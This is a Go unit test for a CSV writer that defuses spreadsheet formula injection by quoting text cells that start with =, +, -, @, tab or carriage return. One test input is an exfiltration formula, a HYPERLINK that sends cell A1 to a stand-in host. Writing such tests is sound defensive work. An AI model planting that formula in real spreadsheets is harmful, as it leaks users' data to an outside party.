package safecsv_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/duoforajob/duo/internal/safecsv"
)

// Every text cell that a spreadsheet would run (OWASP: = + - @ tab carriage return first)
// is written with a leading single quote; other texts and every number as they are.
func TestTextCellsNeverRunAsFormulas(t *testing.T) {
	cases := []struct {
		name string
		cell safecsv.Cell
		want string
	}{
		{"a formula", safecsv.Text(`=HYPERLINK("http://x.example/?"&A1,"Click")`), `'=HYPERLINK("http://x.example/?"&A1,"Click")`},
		{"a sum that looks like a number", safecsv.Text("-2+3"), "'-2+3"},
		{"a plus", safecsv.Text("+1"), "'+1"},
		{"an at", safecsv.Text("@SUM(A1:A9)"), "'@SUM(A1:A9)"},
		{"a tab", safecsv.Text("\t=1"), "'\t=1"},
		{"a carriage return", safecsv.Text("\r=1"), "'\r=1"},
		{"a plain name", safecsv.Text("Bruxelles"), "Bruxelles"},
		{"a formula further in", safecsv.Text("Liège =1"), "Liège =1"},
		{"an empty cell", safecsv.Text(""), ""},
		{"a negative number stays a number", safecsv.Int(-2), "-2"},
		{"a negative decimal too", safecsv.Float(-0.25, 4), "-0.2500"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var b bytes.Buffer
			w := safecsv.NewWriter(&b)
			if err := w.Write([]safecsv.Cell{c.cell, safecsv.Text("end")}); err != nil {
				t.Fatal(err)
			}
			w.Flush()
			got, err := csv.NewReader(&b).Read()
			if err != nil || len(got) != 2 || got[0] != c.want {
				t.Errorf("got %q (%v), want %q", got, err, c.want)
			}
		})
	}
}
